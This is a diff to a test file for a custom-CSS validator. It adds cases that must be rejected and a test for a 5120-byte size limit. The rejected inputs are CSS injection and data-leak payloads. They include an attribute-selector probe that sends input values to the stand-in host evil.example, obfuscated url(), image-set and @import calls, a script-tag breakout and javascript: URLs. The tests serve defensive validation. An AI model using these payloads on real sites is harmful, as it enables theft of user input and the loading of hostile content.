@@ -285,10 +285,17 @@ describe("reading a set-up file", () => {
       "</style><script>",
       "a{background:url(javascript:1)}",
       "a{width:expression(1)}",
+      'input[value^="a"]{background:URL (//evil.example/a)}',
+      'a{background:image-set("//evil.example/a" 1x)}',
+      "a{--x:u\\72l(//evil.example)}",
+      "a{color:red}/**/@im/**/port '//evil.example'",
+      "@font-face{font-family:x;src:local(x)}",
+      ":host{position:absolute}",
     ]) {
       expect(css(bad)[0], bad).toMatch(/customCss: must not contain/);
     }
     expect(css(".a { color: red }")).toEqual([]);
+    expect(css(`.card::after { content: "${"é".repeat(2600)}" }`)[0]).toMatch(/larger than 5120 bytes/);
   });
 
   test("JSON is read as well", () => {
